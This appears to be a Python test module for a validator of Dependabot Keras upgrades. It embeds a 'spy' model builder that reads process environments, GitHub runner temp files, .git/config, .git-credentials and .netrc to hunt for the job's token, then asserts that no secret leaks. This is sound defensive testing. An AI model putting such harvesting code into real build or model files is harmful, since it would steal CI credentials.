"""A model that looks for the job's token wherever a process of the job can read, and what it found."""

from __future__ import annotations

import base64
from pathlib import Path

from tests.action.conftest import SETTINGS, Consumer
from tests.e2e_action.runner import Hub
from tests.github.fake import TOKEN

COMMON = "tensorflow-cpu==2.17.1\nnumpy==1.26.4\npackaging\n"
#: A model whose builder looks for a token in every place that a process of the job can read.
SPY = '''import os
from pathlib import Path

import numpy as np
import keras

HERE = Path(__file__).resolve().parent
TARGET = Path("SPIED")
FACTOR = 1.0


def ancestors():
    """This process and those above it, up to the runner, which on GitHub has the token in its memory only."""
    process = "self"
    while b"/act\\0" not in Path(f"/proc/{process}/cmdline").read_bytes()[:400]:
        yield process
        status = Path(f"/proc/{process}/status").read_text()
        process = next(line.split()[1] for line in status.splitlines() if line.startswith("PPid"))
        if process in ("0", "1"):
            raise RuntimeError("there is no runner above this process")


def read(path):
    try:
        with path.open("rb") as file:
            return file.read(1 << 20).replace(b"\\0", b"\\n")
    except OSError as error:
        return str(error).encode()


def look():
    environs = [read(Path(f"/proc/{one}/environ")) for one in ancestors()]
    variables = {}
    for line in b"\\n".join(environs).decode("utf-8", "replace").splitlines():
        name, _, value = line.partition("=")
        variables.setdefault(name, set()).add(value)
    files = [Path(value) for name in variables for value in variables[name] if name.startswith("GITHUB_")]
    for folder in variables.get("RUNNER_TEMP", ()):
        for root, folders, names in os.walk(folder):
            folders[:] = [name for name in folders if name != "keras-validator"]
            files += [Path(root, name) for name in names]
    files += [HERE / ".git" / "config", Path.home() / ".git-credentials", Path.home() / ".netrc"]
    found = [b"ENVIRON " + environ for environ in environs]
    found += [b"FILE " + str(file).encode() + b"\\n" + read(file) for file in files if file.is_file()]
    TARGET.write_bytes(b"\\n".join(found))


def build():
    look()
    model = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(3, use_bias=False)])
    factor = FACTOR if keras.__version__ == "3.5.0" else 1.0
    model.layers[-1].set_weights([np.arange(12, dtype="float32").reshape(4, 3) * factor])
    return model
'''
#: The spy writes what it finds, and the killer sends a signal: a sandbox permits neither.
OPEN = f'{SETTINGS}sandbox: {{mode: "off"}}\n'


def opened(folder: Path) -> Hub:
    """A repository with the spy, and Dependabot's pull request in it."""
    consumer = Consumer(folder / "widget")
    consumer.start(
        {"requirements.txt": f"keras==3.3.3\n{COMMON}", "model.py": spy(folder), "validator.yml": OPEN}
    )
    made = Hub(folder, consumer)
    made.open({"requirements.txt": f"keras==3.5.0\n{COMMON}"})
    return made


def spy(folder: Path, factor: float = 1.0) -> str:
    """The model, which writes what it finds into `folder`."""
    here = SPY.replace('Path("SPIED")', f"Path({str(folder / 'SPIED')!r})")
    return here.replace("FACTOR = 1.0", f"FACTOR = {factor}")


def spied(hub: Hub) -> bytes:
    """What the model of the last run found."""
    found = hub.folder / "SPIED"
    read = found.read_bytes()
    found.unlink()
    return read


def assert_no_secret(hub: Hub) -> None:
    found = spied(hub).splitlines()
    environs = [number for number, line in enumerate(found) if line.startswith(b"ENVIRON ")]
    assert len(environs) >= 3  # the worker, Nox and the tool above it
    assert any(line.startswith(b"KERAS_BACKEND=") for line in found)
    assert any(line.startswith(b"FILE ") and line.endswith(b".git/config") for line in found)
    encoded = base64.b64encode(f"x-access-token:{TOKEN}".encode())
    secrets = (TOKEN.encode(), encoded, b"AUTHORIZATION")
    # What was read may be megabytes long; the lines with a secret are what anyone would want to see.
    leaks = [line[:200] for line in found if any(secret in line for secret in secrets)]
    assert leaks == []


def comments(hub: Hub) -> list[str]:
    """The comments on the pull request."""
    return [one["body"] for one in hub.state["comments"]]
